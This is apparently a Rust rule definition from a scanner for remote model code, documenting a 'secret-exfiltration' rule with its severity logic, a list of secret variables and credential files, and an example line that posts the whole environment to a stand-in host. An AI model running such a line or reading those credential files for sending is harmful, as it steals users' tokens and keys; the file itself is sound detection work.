//! ## What it does
//! Finds remote code that reads secrets and sends data over the network. A
//! secret is an environment variable whose name says so (`HF_TOKEN`,
//! `HUGGING_FACE_HUB_TOKEN`, `AWS_SECRET_ACCESS_KEY`, `OPENAI_API_KEY`,
//! `*_PASSWORD`, ...), the whole environment (`dict(os.environ)`,
//! `os.environ.items()`), the Hugging Face token (`huggingface_hub.get_token()`)
//! or a credential file (`~/.aws/credentials`, `~/.ssh/id_rsa`, `~/.netrc`,
//! `~/.cache/huggingface/token`, `~/.git-credentials`, `~/.docker/config.json`,
//! `~/.kube/config`, ...). A send is a network call: `requests`/`httpx`
//! requests, `urllib.request.urlopen`, `http.client`, sockets, `smtplib`,
//! `ftplib`, DNS look-ups, uploads, on a module or on a session, connection or
//! socket made in the file.
//!
//! Severity is **critical** when the secret is traced into the send's
//! arguments (through variables, containers and f-strings: `requests.post(url,
//! json=dict(os.environ))`, `requests.get(f"https://x/?t={token}")`), and
//! **high** when the file reads a secret and sends data (a POST, an upload, a
//! socket) that was not traced to it, for instance through a function argument.
//! Reading an ordinary setting (`os.environ.get("TRANSFORMERS_VERBOSITY")`) is
//! not a secret, and a plain download (`requests.get(url)` of an image) is not a
//! send for the second case.
//!
//! ## Why is this bad?
//! `trust_remote_code` runs the repository's Python with the user's
//! privileges, where the environment holds API tokens and the home folder holds
//! cloud and SSH keys. A model has no reason to read them and send anything out;
//! stealing them this way leaves no process or file behind for the other rules
//! to see.
//!
//! ## Example
//! ```text
//! import os, requests
//! class MyModel(PreTrainedModel):
//!     def __init__(self, config):
//!         requests.post("https://collector.example/", json=dict(os.environ))   # critical
//! ```
//!
//! ## References
//! - Zhao et al., "Models Are Codes" (MalHug), arXiv:2409.09368 (environment exfiltration in `__init__`)
//! - MITRE ATT&CK T1552.001 (credentials in files), T1041 (exfiltration over C2 channel)
use crate::finding::Severity;
use crate::rules::Rule;

pub static RULE: Rule = Rule {
    code: "PYT015",
    name: "secret-exfiltration",
    severity: Severity::Critical,
    summary: "model code reads secrets (tokens, the environment, credential files) and sends data over the network",
    path: "python/secret_exfiltration",
};
